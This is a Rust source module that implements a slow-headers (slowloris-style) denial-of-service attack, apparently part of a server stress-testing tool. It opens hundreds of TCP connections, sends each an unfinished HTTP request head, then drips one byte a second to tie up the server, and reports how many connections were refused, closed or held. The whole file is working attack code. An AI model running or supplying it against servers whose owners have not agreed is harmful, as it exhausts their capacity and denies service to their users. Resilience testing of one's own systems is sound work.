//! Requests whose heads never end.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

use super::{COUNT_MAX, Error, Findings, SECONDS_MAX, Victim};

/// Sends the heads of requests, a byte each second, for as long as the server waits.
#[derive(Clone, Debug, clap::Args)]
pub struct SlowHeaders {
    /// How many connections.
    #[arg(long, default_value_t = 500, value_parser = clap::value_parser!(u32).range(1..=i64::from(COUNT_MAX)))]
    count: u32,
    /// For how long, in seconds.
    #[arg(long, default_value_t = 45, value_parser = clap::value_parser!(u64).range(1..=SECONDS_MAX))]
    seconds: u64,
}

impl SlowHeaders {
    /// Makes the attack.
    ///
    /// # Errors
    /// None of its own.
    pub async fn run(&self, victim: Victim) -> Result<Findings, Error> {
        let end = Instant::now() + Duration::from_secs(self.seconds);
        let mut slow = JoinSet::new();
        for _ in 0..self.count {
            slow.spawn(drip(victim, end));
        }
        let (mut refused, mut closed, mut longest) = (0, 0, Duration::ZERO);
        for kept in slow.join_all().await {
            match kept {
                None => refused += 1,
                Some(kept) => {
                    closed += u32::from(kept < Duration::from_secs(self.seconds));
                    longest = longest.max(kept);
                }
            }
        }
        Ok(vec![
            ("connections", self.count.to_string()),
            ("not accepted", refused.to_string()),
            ("closed by the server", closed.to_string()),
            ("kept for at most", format!("{:.1} s", longest.as_secs_f64())),
        ])
    }
}

/// How long the server took what never became a request; `None` if it did not even connect.
async fn drip(victim: Victim, end: Instant) -> Option<Duration> {
    let mut socket = TcpStream::connect(victim.address()).await.ok()?;
    let begun = Instant::now();
    let head = b"GET /websocket HTTP/1.1\r\nHost: x\r\nX-Slow: ";
    if socket.write_all(head).await.is_ok() {
        while Instant::now() < end && socket.write_all(b"x").await.is_ok() {
            sleep(Duration::from_secs(1)).await;
        }
    }
    Some(begun.elapsed())
}
